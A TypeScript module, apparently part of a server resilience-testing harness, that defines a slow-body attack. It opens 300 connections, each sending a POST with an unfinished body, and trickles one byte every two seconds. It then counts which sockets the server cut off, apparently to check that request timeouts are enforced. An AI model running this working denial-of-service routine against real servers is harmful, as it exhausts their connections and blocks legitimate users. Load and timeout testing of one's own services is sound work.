import { connect, type Socket } from 'node:net';
import { pause, Tally, type Attack } from '../attack.ts';
import { HOME } from '../intruder.ts';

const CONNECTIONS = 300;
const SLOWLY_MS = 2000;

export const slowBodies: Attack = {
  about: `${CONNECTIONS} requests whose bodies take for ever`,
  env: { REQUEST_SECONDS: '5' },
  outside({ url }) {
    const tally = new Tally();
    const { hostname, port, host } = new URL(url);
    const open = (): Socket => {
      const socket = connect({ port: Number(port), host: hostname, localAddress: HOME });
      socket.on('error', () => {});
      socket.resume();
      socket.on('close', () => tally.add('cut off'));
      socket.write(
        `POST /api/guests HTTP/1.1\r\nHost: ${host}\r\nContent-Type: application/json\r\nContent-Length: 10000\r\n\r\n{`,
      );
      return socket;
    };
    return Promise.resolve({
      async go(stop) {
        const sockets = Array.from({ length: CONNECTIONS }, open);
        while (!stop.aborted) {
          await pause(SLOWLY_MS, stop);
          for (const socket of sockets) if (!socket.destroyed) socket.write(' ');
        }
        const left = sockets.filter(({ destroyed }) => !destroyed);
        tally.add('still open', left.length);
        left.forEach((socket) => socket.removeAllListeners('close').destroy());
        return String(tally);
      },
    });
  },
};
